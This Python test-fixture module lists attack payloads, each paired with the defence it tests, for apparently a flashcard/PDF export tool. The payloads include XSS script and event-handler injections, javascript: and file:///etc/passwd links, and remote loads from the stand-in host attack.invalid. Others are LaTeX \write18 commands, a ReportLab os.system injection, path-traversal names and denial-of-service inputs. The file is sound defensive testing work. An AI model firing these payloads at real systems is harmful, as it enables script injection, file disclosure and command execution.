"""The table of attacks: what an enemy may write into a source, and what is tried in all three targets.

``docs/trust.md`` shows the table; a test holds the two together. In a payload ``RAN`` is a script that would leave a
trace in a browser, ``HOST`` an address that would be asked.
"""

from collections.abc import Callable
from dataclasses import dataclass
from typing import Final

RAN: Final = "window.ran=1"
HOST: Final = "https://attack.invalid"


@dataclass(frozen=True, slots=True)
class Attack:
    """A row: ``name`` and what is ``kept`` from happening are for people, ``payloads`` go wherever text can stand."""

    name: str
    kept: str
    payloads: tuple[str, ...]


def deep(opening: str, closing: str = "", inside: str = "x") -> str:
    """Ten thousand levels."""
    return opening * 10_000 + inside + closing * 10_000


_NO_SCRIPT: Final = "No script runs, no address is asked."
_ITS_WORDS: Final = "It is text: Anki and the browser see characters."
_TOLD: Final = "Refused with a finding, in time."

ATTACKS: Final = (
    Attack(
        "Scripts",
        _NO_SCRIPT,
        (
            f"<script>{RAN}</script>",
            f"<ScRiPt src={HOST}/a.js></sCrIpT>",
            f"<scr<script>ipt>{RAN}</script>",
            f"<script\n>{RAN}</script\n>",
            f"</script><script>{RAN}</script>",
            f"<noscript><p title='</noscript><script>{RAN}</script>'>",
            f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RAN}&gt;'>",
            f"<template><script>{RAN}</script></template>",
            f"<![CDATA[<script>{RAN}</script>]]>",
            f"<?php ?><script>{RAN}</script>",
            f"<!--><script>{RAN}</script>-->",
            f"--!><script>{RAN}</script>",
            f"</title></style></textarea></noscript></template></svg><script>{RAN}</script>",
        ),
    ),
    Attack(
        "Event handlers",
        _NO_SCRIPT,
        (
            f"<b onclick={RAN} onmouseover='{RAN}' OnFocus={RAN} tabindex=0 autofocus>x</b>",
            f"<img src=x onerror={RAN}>",
            f"<img src=x\tonerror\n=\n'{RAN}'>",
            f'<img alt="`><img src=x onerror={RAN}>`">',
            f"<details open ontoggle={RAN}><summary onclick={RAN}>x</summary>y</details>",
            f"<body onload={RAN}><input autofocus onfocus={RAN}><marquee onstart={RAN}>x</marquee>",
            f"<video><source onerror={RAN}></video><audio src=x onerror={RAN}></audio>",
            f'![x" onerror="{RAN}](a.png "x\' onerror={RAN}")',
            f'[x](a.md "x\\" onmouseover=\\"{RAN}")',
            f"<table background={HOST}/t onclick={RAN}><tr onclick={RAN}><td onclick={RAN}>x</td></tr></table>",
            f"<x onclick={RAN}>x</x><custom-element onmouseenter={RAN}>y</custom-element>",
        ),
    ),
    Attack(
        "Addresses that run or read",
        "No link, picture or PDF action of these kinds is made; the words stay.",
        (
            f"[x](javascript:{RAN})",
            f"[x](JaVaScRiPt:{RAN}) [y](&#106;avascript:{RAN}) [z](java&Tab;script:{RAN})",
            f"[x](<java\tscript:{RAN}>) [y](\x01javascript:{RAN}) [z](%6Aavascript:{RAN})",
            f"[x]( javascript&colon;{RAN}) <javascript:{RAN}> [y][j]\n\n[j]: javascript:{RAN}",
            f"<a href=' &#1; javascript:{RAN}'>x</a> <a href=javascript&#58;{RAN}>y</a> <a href=\"jav&#x0A;ascript:{RAN}\">z</a>",  # noqa: E501 - one payload
            f"[x](data:text/html,<script>{RAN}</script>) ![y](data:image/svg+xml,<svg/onload={RAN}>)",
            f"[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=) [y](vbscript:{RAN})",
            "[x](file:///etc/passwd) ![y](file:///etc/passwd) <img src=file:///etc/passwd>",
            "[x](view-source:file:///etc/passwd) [y](intent://a#Intent;end) [z](ms-word:ofe|u|a) [s](smb://a/b)",
            "[x](//attack.invalid/a) [y](\\\\attack.invalid\\a) [z](/\\attack.invalid/a) <a href='\\/attack.invalid'>w</a>",  # noqa: E501 - one payload
            "[x](C:\\Windows\\win.ini) [y](blob:null/a) [z](about:blank) [w](chrome://settings) [v](filesystem:a)",
            f"<form action=javascript:{RAN}><button formaction=javascript:{RAN}>x</button></form>",
            f"<a xlink:href='javascript:{RAN}' href='#' target=_top ping={HOST}/ping download>x</a>",
            f"<base href={HOST}/><link rel=stylesheet href={HOST}/a.css><meta http-equiv=refresh content='0;url={HOST}'>",  # noqa: E501 - one payload
        ),
    ),
    Attack(
        "Pictures and frames from the network",
        "Nothing is asked for when the product is opened; a remote picture is a link, with a warning.",
        (
            f"![x]({HOST}/a.png) <img src='{HOST}/b.png' srcset='{HOST}/c.png 2x'> ![y](//attack.invalid/d.png)",
            f"<picture><source srcset={HOST}/a.png><img src={HOST}/b.png></picture><input type=image src={HOST}/c>",
            f"<iframe src={HOST}></iframe><object data={HOST}></object><embed src={HOST}><frame src={HOST}>",
            f"<iframe srcdoc='<script>parent.{RAN}</script>'></iframe>",
            f"<video src={HOST}/a.mp4 poster={HOST}/p.png></video><audio src={HOST}/a.mp3></audio><track src={HOST}>",
            f"<svg><image href={HOST}/a.png /><use href='{HOST}/a.svg#b'/></svg> <math href={HOST}><mi>x</mi></math>",
        ),
    ),
    Attack(
        "Style",
        "No style of a source reaches a product.",
        (
            f"<style>@import '{HOST}/a.css'; *{{background:url({HOST}/b)}}</style>",
            f"</style><style>body{{display:none}}</style><b style='background:url({HOST}/a)'>x</b>",
            f"<p style=\"position:fixed;inset:0;background:url('{HOST}')\" class='nightMode cf-page' id=app>x</p>",
            f"<font color='expression({RAN})' face='x\";}}'>y</font><table style=width:1e9px><td width=1e9>z</table>",
        ),
    ),
    Attack(
        "Scripts in SVG and MathML",
        _NO_SCRIPT,
        (
            f"<svg onload={RAN}><script>{RAN}</script><a xlink:href='javascript:{RAN}'><text>x</text></a></svg>",
            f"<svg><animate onbegin={RAN} attributeName=x dur=1s><set attributeName=onmouseover to={RAN}></svg>",
            f"<svg><foreignObject><iframe src='javascript:{RAN}'></iframe></foreignObject></svg>",
            f"<math><maction actiontype='statusline#javascript:{RAN}' xlink:href='javascript:{RAN}'>x</maction></math>",
        ),
    ),
    Attack(
        "Names that a page's own code looks for",
        _NO_SCRIPT,
        (
            "<img name=cookie><form id=body><input name=innerHTML></form><a id=app name=constructor>x</a>",
            "<b data-cf=study id=answer class=cf-query data-mathjax='{}' contenteditable>x</b>",
            "__proto__ constructor toString hasOwnProperty",
        ),
    ),
    Attack(
        "Anki's templates, sounds, LaTeX and input boxes",
        "Anki reads none of them: no LaTeX is run, no file is played, no field is filled in.",
        (
            "{{Front}} {{FrontSide}} {{Back}} {{Tags}} {{type:Front}} {{hint:Back}}",
            "{{#Front}} x {{/Front}} {{^Back}} y {{/Back}} {{!a remark}} {{=<% %>=}} <%Front%>",
            "[sound:a.mp3] [sound:/etc/passwd] [anki:tts lang=en_US]x[/anki:tts] [anki:play:q:0]",
            "[latex]\\input{/etc/passwd}[/latex] [$]\\write18{touch /tmp/ran}[/$] [$$]x[/$$] [LaTeX]y[/LATEX]",
            "&#91;latex]x[/latex] [<b>latex</b>]y[/latex] [la\u200btex]z[/latex] [[type:Front]] [[cloze:Text]]",
            "{{c1::x}} {{c999999::y}} {{c0::z}} {{C1::w}} {{c1,2::v}} {{c18446744073709551616::u}}",
            "{{c1::a}} }} {{ {{c1:: ::}} }}{{ {{c1::}} {{c2::::}} {{c3::{{c4::{{c5::x}}}}",
            "{{c1::<script>window.ran=1</script>::<b onclick=window.ran=1>h</b>}}",
            "<anki-mathjax>x</anki-mathjax> <anki-mathjax block=true>\\require{x}</anki-mathjax>",
        ),
    ),
    Attack(
        "Commands in formulas",
        "A formula is drawn or shown as its source; it reads no file, makes no link and runs nothing.",
        (
            f"$\\href{{javascript:{RAN}}}{{x}}$ $\\url{{javascript:{RAN}}}$ \\(\\href{{{HOST}}}{{y}}\\)",
            f"$\\text{{<script>{RAN}</script>}}$ $\\text{{</script><img src=x onerror={RAN}>}}$",
            f"$<script>{RAN}</script>$ $x<img src=y onerror={RAN}>$ $$</script><svg onload={RAN}>$$",
            "$\\input{/etc/passwd}$ $\\include{x}$ $\\openin1=/etc/passwd$ $\\write18{touch /tmp/ran}$ $\\immediate$",
            f"$\\includegraphics{{{HOST}/a.png}}$ $\\includegraphics{{/etc/passwd}}$",
            f'$\\style{{background:url({HOST})}}{{x}}$ $\\class{{a" onclick="{RAN}}}{{x}}$ $\\cssId{{app}}{{x}}$',
            f"$\\unicode{{x}}$ $\\require{{html}}$ $\\htmlData{{a=1}}{{x}}$ $\\data{{onclick={RAN}}}{{x}}$",
            "$\\def\\a{\\a\\a}\\a$ $\\newcommand\\a{\\a}\\a$ $\\let\\a\\b$ $\\catcode`\\@=0$ $\\csname x\\endcsname$",
            "\\(x\\) \\[y\\] \\\\(z\\\\) `\\(w\\)` $\\)\\($ $x\\]\\[y$ $`\\)`$",
            f"$\\mathtt{{}}{'^{x' * 100}$ ${'{' * 300}$ ${'{' * 300}x{'}' * 300}$ ${'x_' * 300}$",
            "$\\begin{array}{" + "c" * 300 + "}x\\end{array}$ $" + "\\frac" * 200 + "$",
            "$" + "\\sqrt{" * 150 + "x" + "}" * 150 + "$",
            "$\\hspace{1e9em}x\\rule{1e9em}{1e9em}\\kern99999999pt\\raise9999999pt{y}$ $\\scriptsize\\Huge x$",
        ),
    ),
    Attack(
        "Markup of the PDF library",
        "It is text in the PDF; no file is read into it.",
        (
            "<para><font name=x size=99999 color=red>x</font></para> <para backcolor=red>",
            "<img src='/etc/passwd' width=1 height=1/> <img src=\"../../../../etc/passwd\"/>",
            "<font color=\"[[[getattr(pow,Word('__globals__'))['os'].system('touch /tmp/ran') for x in [1]]]]\">x</font>",  # noqa: E501 - one payload
            "<a href='file:///etc/passwd'>x</a> <link destination=x>y</link> <a name=x/> <seq/> <index item=x/>",
            "<onDraw name=x label=y/> <unichar code=60/> <greek>x</greek> <super>y</super> <pageBreak/> <evalString>1</evalString>",  # noqa: E501 - one payload
            "%PDF-1.7 endstream endobj 1 0 obj<</S/JavaScript/JS(app.alert(1))>> )Tj ET Q (\\) \\( >> <<",
        ),
    ),
    Attack(
        "Control, bidi and other characters",
        "Refused with a finding where no card can hold them; else shown. Anki imports the package.",
        (
            "a\x00b",
            "a\x1fb",
            "a\x1bb\x1b]0;owned\x07\x1b[2J\x9b31m",
            "a\x02wzxhzdk:0\x03b \x02klzzwxh:0001\x03 \ufdd0B0\ufdd1 \ufdd0I99999999999\ufdd1",
            "a\ufffe\uffff\ufdefb \U0010ffff \ufeff x",
            "\u202egnp.exe\u202c \u2066x\u2069 \u200fy\u200e \u061c \u2028z\u2029w \x85",
            "\u0338> <\u0338b \u0301\u0301\u0301" + "e" + "\u0301" * 300,
            "&#0; &#x1F; &#xD800; &#x110000; &#99999999999999999999; &#x26; &amp;lt;script&amp;gt; &NotEqualTilde;",
            "🏴\U000e0067\U000e0062 👩‍👩‍👧‍👦 \U0001f1e9\U0001f1ea \u3164 \uffa0 \u115f \u180e \U000e0001",
            "שלום (a) [b] ١٢٣ \u202b(\u202c) مرحبا <b>ق</b> " * 20,
        ),
    ),
    Attack(
        "Names of decks, tags and sources",
        "They are names: no part of a page, a query or a path is made of them.",
        (
            "A::B::::C:: ::D",
            "::",
            "<b>deck</b>::<script>window.ran=1</script>",
            'a"b\'c -tag:x deck:* (or) _*',
            "../../../../etc/cron.d/x",
            "..\\..\\x",
            "/etc/passwd",
            "CON",
            "nul.txt",
            "a\nb::c",
            "x" * 500,
            "é" * 200 + "::" + "🧠" * 200,
            "marked",
            "leech",
            "none::filtered",
            "Default",
            "_",
            ".",
            " ",
        ),
    ),
    Attack(
        "Languages of code and of the deck",
        "An unknown or a hostile name is no name: code is shown plain.",
        tuple(
            f"```{info}\nprint('<script>{RAN}</script>')\n```"
            for info in (
                f'"><script>{RAN}</script>',
                f'python" onmouseover="{RAN}',
                "../../../etc/passwd",
                '{.python ."><b>}',
                "x" * 500,
                "__class__",
                "\u202epython",
                "text/html",
                "%s%n{0}",
            )
        ),
    ),
)  # fmt: skip

# Ten thousand levels, ten megabytes on a line: these go through the program on their own, for their time.
HEAVY: Final[dict[str, Callable[[], str]]] = {
    "10,000 quotes": lambda: deep("> "),
    "10,000 quotes without blanks": lambda: deep(">"),
    "10,000 items on a line": lambda: deep("- "),
    "10,000 numbers on a line": lambda: deep("1. "),
    "10,000 nested lists": lambda: "\n".join(" " * level + "- x" for level in range(0, 2000, 2)),
    "10,000 brackets": lambda: deep("[", "]"),
    "10,000 links": lambda: deep("[x](", ")"),
    "10,000 pictures": lambda: deep("![", "](a)"),
    "10,000 round brackets": lambda: deep("[x](" + "(", ")"),
    "10,000 folds": lambda: deep("<details><summary>x</summary>\n\n", "\n\n</details>"),
    "10,000 folds on a line": lambda: deep("<details>", "</details>"),
    "10,000 elements": lambda: deep("<b>", "</b>"),
    "10,000 blocks of HTML": lambda: deep("<div>\n", "</div>\n"),
    "10,000 tables": lambda: deep("<table><tr><td>"),
    "10,000 lists in HTML": lambda: deep("<ul><li>"),
    "10,000 marks of emphasis": lambda: deep("*a ", "*"),
    "10,000 marks in turn": lambda: deep("*a **b ", "** *"),
    "10,000 lone marks": lambda: "*_" * 10_000,
    "10,000 struck": lambda: deep("~~a "),
    "10,000 braces in a formula": lambda: f"${deep('{', '}')}$",
    "10,000 open braces in a formula": lambda: f"${'{' * 10_000}$",
    "10,000 roots in a formula": lambda: "$" + deep("\\sqrt{", "}") + "$",
    "10,000 gaps": lambda: deep("{{c1::", "}}"),
    "10,000 callouts": lambda: "\n".join(f"{'>' * level} [!NOTE]" for level in range(1, 300)),
    "5,000 components": lambda: '<Flashcard question="x">\n' * 5_000 + "x" + "</Flashcard>\n" * 5_000,
    "10,000 footnotes": lambda: "".join(f"[^{n}]: x[^{n + 1}]\n\n" for n in range(10_000)) + "x[^0]",
    "10,000 definitions": lambda: "".join(f"[{n}]: x\n" for n in range(10_000)) + "[1][2][3]",
    "10 MB on a line": lambda: "x" * 10_000_000,
    "10 MB of words on a line": lambda: "word " * 2_000_000,
    "10 MB of blanks": lambda: "a" + " " * 10_000_000 + "b",
    "10 MB of tabs": lambda: "\t" * 10_000_000,
    "10 MB of backticks": lambda: "`" * 10_000_000,
    "10 MB of dollars": lambda: "$" * 10_000_000,
    "10 MB of brackets": lambda: "[" * 10_000_000,
    "10 MB of less-than": lambda: "<" * 10_000_000,
    "10 MB of bars": lambda: "|" * 10_000_000 + "\n" + "|-" * 1_000_000,
    "10 MB of underscores": lambda: "_" * 10_000_000,
    "10 MB of hashes": lambda: "#" * 10_000_000,
    "10 MB of folds on a line": lambda: "<details><summary>a</summary>b</details>" * 250_000,
    "10 MB of data in a picture": lambda: f"![x](data:image/png;base64,{'A' * 10_000_000})",
    "10 MB of one attribute": lambda: f'<b title="{"x" * 10_000_000}">y</b>',
    "10 MB of entities": lambda: "&amp;" * 2_000_000,
    "250,000 line ends": lambda: "\n" * 250_000,
    "1,000,000 form feeds": lambda: "\x0c" * 1_000_000,
    "a table of 2,000 columns": lambda: f"{'|a' * 2_000}|\n{'|-' * 2_000}|\n{'|b' * 2_000}|\n",
    "a table of 1,000 rows": lambda: "|a|b|\n|-|-|\n" + "|c|d|\n" * 1_000,
    "a list of 1,500 items": lambda: "- a\n" * 1_500,
    "5,000 formulas": lambda: "$x_1$ " * 5_000,
}
